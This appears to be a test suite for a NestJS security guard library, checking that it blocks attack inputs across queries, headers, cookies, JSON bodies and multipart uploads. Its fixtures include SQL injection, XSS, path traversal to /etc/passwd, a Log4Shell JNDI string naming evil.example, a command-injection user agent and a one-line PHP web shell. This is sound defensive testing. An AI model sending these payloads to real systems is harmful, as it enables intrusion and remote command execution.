import {
  Body,
  Controller,
  Get,
  Inject,
  Module,
  Param,
  Post,
  Query,
  Req,
  UploadedFiles,
  UseInterceptors,
} from '@nestjs/common';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { AnyFilesInterceptor } from '@nestjs/platform-express';
import {
  Bypass,
  BanService,
  DetectionService,
  detectPenetrationAttempt,
  GuardEvents,
  type GuardEvent,
  SuspiciousDetection,
} from 'nestapi-guard';
import { PLATFORMS, type Platform, type RunningApp, startApp } from '../support/platforms';

const SQL = "1' or '1'='1";
const XSS = '<script>alert(1)</script>';

@Controller()
class ShopController {
  constructor(@Inject(DetectionService) private readonly detection: DetectionService) {}

  @Get('items/:id')
  item(@Param('id') id: string, @Query() query: object) {
    return { id, query };
  }

  @Post('items')
  create(@Body() body: unknown) {
    return { stored: body };
  }

  @Post('articles')
  @SuspiciousDetection({ exclude: { bodyFields: ['html'] } })
  publish() {
    return { published: true };
  }

  @Post('scripts')
  @SuspiciousDetection({ categories: ['sql_injection'] })
  onlySql() {
    return { stored: true };
  }

  @Post('strict')
  @SuspiciousDetection({ sensitivity: 'high' })
  strict() {
    return { stored: true };
  }

  @Post('lenient')
  @SuspiciousDetection({ sensitivity: 'low' })
  lenient() {
    return { stored: true };
  }

  @Post('raw')
  @SuspiciousDetection({ enabled: false })
  raw() {
    return { stored: true };
  }

  @Post('bypassed')
  @Bypass(['penetration'])
  bypassed() {
    return { stored: true };
  }

  @Post('own-verdict')
  @SuspiciousDetection({ enabled: false })
  async ownVerdict(@Req() request: object, @Body() body: { text: string }) {
    const whole = await this.detection.inspect(request);
    const attempt = await detectPenetrationAttempt(request);
    return { whole: whole.suspicious, attempt, value: this.detection.inspectValue(body.text).suspicious };
  }
}

@Module({ controllers: [ShopController] })
class ShopModule {}

const OFF = { enableRateLimiting: false };

async function start(platform: Platform, config = {}): Promise<RunningApp> {
  return startApp(platform, { imports: [ShopModule], config: { ...OFF, enableIpBanning: false, ...config } });
}

describe.each(PLATFORMS)('Detection on %s', (platform) => {
  let app: RunningApp;

  beforeAll(async () => {
    app = await start(platform);
  });

  afterAll(() => app.close());

  it.each([
    ['a query value', '/items/1?q=' + encodeURIComponent(SQL), {}],
    ['a repeated query value', '/items/1?q=a&q=' + encodeURIComponent(SQL), {}],
    ['a query name', '/items/1?user[$ne]=a', {}],
    ['a path segment', '/items/' + encodeURIComponent(XSS), {}],
    ['a raw path', '/items/../../etc/passwd', {}],
    ['an encoded path', '/items/%2e%2e%2f%2e%2e%2fetc%2fpasswd', {}],
    ['a header', '/items/1', { 'x-data': '${jndi:ldap://evil.example/a}' }],
    ['the user agent', '/items/1', { 'user-agent': ';uname;' }],
    ['the referer', '/items/1', { referer: XSS }],
    ['a cookie', '/items/1', { cookie: `a=b; lang=${encodeURIComponent(SQL)}` }],
  ])('refuses an attack in %s', async (_place, path, headers) => {
    const answer = await app.get(path, { headers });
    expect(answer.status).toBe(400);
    expect(answer.json()).toMatchObject({ statusCode: 400, code: 'GUARD_PENETRATION' });
    expect(answer.text).not.toContain('script');
  });

  it('lets the same request through without the attack', async () => {
    const answer = await app.get('/items/1?q=blue%20shoes', { headers: { cookie: 'lang=en', 'x-data': 'a' } });
    expect(answer.status).toBe(200);
  });

  it.each([
    ['a JSON value', { name: SQL }],
    ['a deep JSON value', { a: { b: [{ c: XSS }] } }],
    ['a JSON key', { user: { $ne: '' } }],
  ])('refuses an attack in %s', async (_place, body) => {
    expect((await app.post('/items', body)).status).toBe(400);
  });

  it('refuses what a form parser drops', async () => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    expect((await app.post('/items', 'a=1&__proto__[x]=y', { headers })).status).toBe(400);
    expect((await app.post('/items', 'a=1&b=2', { headers })).status).toBe(201);
  });

  it('reads the parsed body, whatever charset it came in', async () => {
    const headers = { 'content-type': 'application/json; charset=utf-16le' };
    const { status } = await app.post('/items', Buffer.from(JSON.stringify({ a: XSS }), 'utf16le'), { headers });
    expect(status).not.toBe(201);
  });

  it('excludes what the decorator names, and nothing else', async () => {
    expect((await app.post('/articles', { html: XSS })).status).toBe(201);
    expect((await app.post('/articles', { title: XSS })).status).toBe(400);
  });

  it('looks only for the categories of the decorator', async () => {
    expect((await app.post('/scripts', { a: XSS })).status).toBe(201);
    expect((await app.post('/scripts', { a: SQL })).status).toBe(400);
  });

  it('asks for more or less evidence by sensitivity', async () => {
    const hint = { a: 'drop table lamps' };
    expect((await app.post('/items', hint)).status).toBe(201);
    expect((await app.post('/strict', hint)).status).toBe(400);
    const likely = { a: '1 having 1=1' };
    expect((await app.post('/items', likely)).status).toBe(400);
    expect((await app.post('/lenient', likely)).status).toBe(201);
  });

  it('is off where the decorator or a bypass says so', async () => {
    expect((await app.post('/raw', { a: XSS })).status).toBe(201);
    expect((await app.post('/bypassed', { a: XSS })).status).toBe(201);
  });

  it('answers a handler that asks for itself', async () => {
    const answer = await app.post('/own-verdict', { text: SQL });
    expect(answer.json()).toEqual({
      whole: true,
      attempt: { isSuspicious: true, triggerInfo: 'sql_injection in body.text' },
      value: true,
    });
    expect((await app.post('/own-verdict', { text: 'hello' })).json()).toMatchObject({ whole: false, value: false });
  });

  it('refuses what is too large to inspect, without a strike', async () => {
    const nested = '['.repeat(5000) + ']'.repeat(5000);
    const headers = { 'content-type': 'application/json' };
    const { status } = await app.post('/items', nested, { headers });
    expect(status).toBe(400);
    expect((await app.post('/items', JSON.stringify(Array(21_000).fill('a')), { headers })).status).toBe(400);
  });

  it('inspects what matches no route', async () => {
    expect((await app.get('/nowhere?q=' + encodeURIComponent(SQL))).status).toBe(400);
    expect((await app.get('/nowhere')).status).toBe(404);
  });

  it('adds and removes patterns at run time', async () => {
    const detection = app.app.get(DetectionService);
    await detection.addPattern('forbidden-fruit', { category: 'sensitive_file', sources: ['query'] });
    expect(detection.patterns()).toHaveLength(1);
    expect((await app.get('/items/1?q=a%20Forbidden-Fruit')).status).toBe(400);
    expect((await app.post('/items', { q: 'forbidden-fruit' })).status).toBe(201);
    expect(detection.stats().find(({ name }) => name === 'custom:"forbidden-fruit"')).toMatchObject({ hits: 1 });
    expect(await detection.removePattern('forbidden-fruit')).toBe(true);
    expect((await app.get('/items/1?q=forbidden-fruit')).status).toBe(200);
  });

  it('takes no more patterns than configured', async () => {
    const bounded = await start(platform, { detectionMaxTrackedPatterns: 100 });
    const detection = bounded.app.get(DetectionService);
    for (let index = 0; index < 100; index++) await detection.addPattern(`pattern ${index}`);
    await expect(detection.addPattern('one more')).rejects.toThrow('detectionMaxTrackedPatterns');
    await bounded.close();
  });

  it('refuses a pattern that backtracks', async () => {
    await expect(app.app.get(DetectionService).addPattern(/(a+)+$/)).rejects.toThrow('(a+)+$');
  });

  it('tells operators what it found', async () => {
    const events: GuardEvent[] = [];
    const subscription = app.app.get(GuardEvents).stream.subscribe((event) => events.push(event));
    await app.post('/items', { items: [{ name: SQL }] });
    subscription.unsubscribe();
    expect(events).toContainEqual(
      expect.objectContaining({
        check: 'penetration',
        reason: 'sql_injection',
        evidence: expect.objectContaining({
          threats: [expect.objectContaining({ path: 'body.items[0].name' })],
        }) as unknown,
      }),
    );
  });
});

describe.each(PLATFORMS)('Detection configuration on %s', (platform) => {
  const post = async (config: object, body: object, path = '/items') => {
    const app = await start(platform, config);
    try {
      return (await app.post(path, body)).status;
    } finally {
      await app.close();
    }
  };

  it.each([
    ['enablePenetrationDetection', { enablePenetrationDetection: false }],
    ['detectionCategories', { detectionCategories: ['xss'] }],
    ['detectionExclude', { detectionExclude: { bodyFields: ['na*'] } }],
    ['passiveMode', { passiveMode: true }],
    ['checkModes', { checkModes: { penetration: 'dry-run' } }],
  ])('lets an attack through because of %s', async (_field, config) => {
    expect(await post({}, { name: SQL })).toBe(400);
    expect(await post(config, { name: SQL })).toBe(201);
  });

  it('takes the sensitivity from the configuration, and the decorator above it', async () => {
    expect(await post({ detectionSensitivity: 'high' }, { a: 'drop table lamps' })).toBe(400);
    expect(await post({ detectionSensitivity: 'high' }, { a: 'drop table lamps' }, '/lenient')).toBe(201);
  });

  it('lets the oversized through when told to', async () => {
    const list = Array<string>(21_000).fill('a');
    expect(await post({ detectionOverBudget: 'allow' }, list)).toBe(201);
  });

  it('reads the middle of long values unless told not to', async () => {
    const filler = 'All work and no play makes Jack a dull boy. '.repeat(400);
    const body = { text: `${filler}<script>alert(1)</script>${filler}` };
    expect(await post({}, body)).toBe(400);
    expect(await post({ detectionPreserveAttackPatterns: false }, body)).toBe(201);
    expect(await post({ detectionPreserveAttackPatterns: false, detectionMaxContentLength: 100_000 }, body)).toBe(400);
  });

  it.each([
    ['detectionCompilerTimeout', 20],
    ['detectionMaxContentLength', 10],
    ['detectionSemanticThreshold', 2],
    ['detectionAnomalyThreshold', 0],
    ['detectionSlowPatternThreshold', 3],
    ['detectionMonitorHistorySize', 1],
    ['detectionMaxTrackedPatterns', 1],
    ['detectionCategories', ['sqli']],
    ['detectionExclude', { bodies: ['a'] }],
    ['detectionSensitivity', 'paranoid'],
    ['detectionOverBudget', 'ignore'],
  ])('refuses to start with %s = %j', async (field, value) => {
    await expect(start(platform, { [field]: value })).rejects.toThrow(field);
  });

  it('bans after too many attacks, and not for doubtful ones', async () => {
    const app = await start(platform, { enableIpBanning: true, autoBanThreshold: 3, trustedProxies: ['loopback'] });
    const attack = () => app.post('/items', { name: '7 union select 1,2,3' }, { from: '192.0.2.7' });
    expect((await attack()).status).toBe(400);
    expect((await attack()).status).toBe(400);
    expect((await attack()).status).toBe(403);
    expect((await app.get('/items/1', { from: '192.0.2.7' })).status).toBe(403);
    expect(app.app.get(BanService).isBanned('192.0.2.7')).toBe(true);
    for (let round = 0; round < 5; round++) await app.post('/items', { a: '1 having 1=1' }, { from: '192.0.2.8' });
    expect((await app.get('/items/1', { from: '192.0.2.8' })).status).toBe(200);
    await app.close();
  });

  it('leaves trusted clients alone', async () => {
    const app = await start(platform, { trustedProxies: ['loopback'], exemptIps: ['192.0.2.9'] });
    expect((await app.post('/items', { name: SQL }, { from: '192.0.2.9' })).status).toBe(201);
    await app.close();
  });
});

@Controller()
class UploadController {
  static handled = 0;

  @Post('upload')
  @UseInterceptors(AnyFilesInterceptor())
  upload(@Body() body: object, @UploadedFiles() files: { originalname: string }[]) {
    UploadController.handled++;
    return { body, files: files.map((file) => file.originalname) };
  }
}

@Controller()
class StreamController {
  static handled = 0;

  @Post('upload')
  async upload(
    @Req()
    request: {
      parts(): AsyncIterable<{ fieldname: string; value?: unknown; filename?: string; toBuffer?(): Promise<Buffer> }>;
    },
  ) {
    const body: Record<string, unknown> = {};
    const files: string[] = [];
    for await (const part of request.parts()) {
      if (part.filename === undefined) body[part.fieldname] = part.value;
      else {
        await part.toBuffer?.();
        files.push(part.filename);
      }
    }
    StreamController.handled++;
    return { body, files };
  }
}

@Controller()
class IdleController {
  @Post('ignored')
  ignored() {
    return { ignored: true };
  }
}

describe.each(PLATFORMS)('Multipart bodies read behind the guards on %s', (platform) => {
  const controller = platform === 'express' ? UploadController : StreamController;
  let app: RunningApp;

  beforeAll(async () => {
    app = await startApp(platform, {
      controllers: [controller, IdleController],
      config: { ...OFF, enableIpBanning: false },
      configure: async (nest) => {
        if (platform === 'fastify')
          await (nest as unknown as { register(plugin: unknown): Promise<void> }).register(
            (await import('@fastify/multipart')).default,
          );
        else (nest as NestExpressApplication).disable('etag');
      },
    });
  });

  afterAll(() => app.close());
  beforeEach(() => {
    controller.handled = 0;
  });

  const multipart = (...parts: [headers: string, content: string][]) => {
    const text = parts
      .map(([headers, content]) => `--xyz\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${content}\r\n`)
      .join('');
    return [`${text}--xyz--\r\n`, { headers: { 'content-type': 'multipart/form-data; boundary=xyz' } }] as const;
  };

  it('hands harmless parts to the handler', async () => {
    const [body, options] = multipart(['name="title"', 'Blue shoes'], ['name="f"; filename="a.txt"', 'hello']);
    const answer = await app.post('/upload', body, options);
    expect(answer.status).toBe(201);
    expect(answer.json()).toEqual({ body: { title: 'Blue shoes' }, files: ['a.txt'] });
  });

  it.each([
    ['a field', [['name="title"', SQL]]],
    [
      'a later field',
      [
        ['name="a"', 'b'],
        ['name="f"; filename="a.bin"', 'x'.repeat(300_000)],
        ['name="title"', SQL],
      ],
    ],
    ['a field name', [['name="__proto__[a]"', 'b']]],
    ['a file name', [['name="f"; filename="../../a.txt"', 'x']]],
    ['a script as a file', [['name="f"; filename="a.php"', 'x']]],
    ['the content of a file', [['name="f"; filename="a.txt"', '<?php system($_GET[0]); ?>']]],
  ] as [string, [string, string][]][])('keeps an attack in %s from the handler', async (_place, parts) => {
    const [body, options] = multipart(...parts);
    const answer = await app.post('/upload', body, options);
    expect(answer.status).toBe(400);
    expect(controller.handled).toBe(0);
  });

  it('inspects what the handler does not even read', async () => {
    const [harmless, options] = multipart(['name="title"', 'Blue shoes']);
    const [attack] = multipart(['name="title"', XSS]);
    expect((await app.post('/ignored', harmless, options)).status).toBe(201);
    expect((await app.post('/ignored', attack, options)).status).toBe(400);
  });

  it('lets a body without an end through to the parser once it is harmless so far', async () => {
    const [whole, options] = multipart(['name="title"', 'Blue shoes']);
    const cut = whole.slice(0, -9);
    expect([201, 400, 500]).toContain((await app.post('/upload', cut, options)).status);
    expect((await app.get('/nowhere')).status).toBe(404);
  });
});
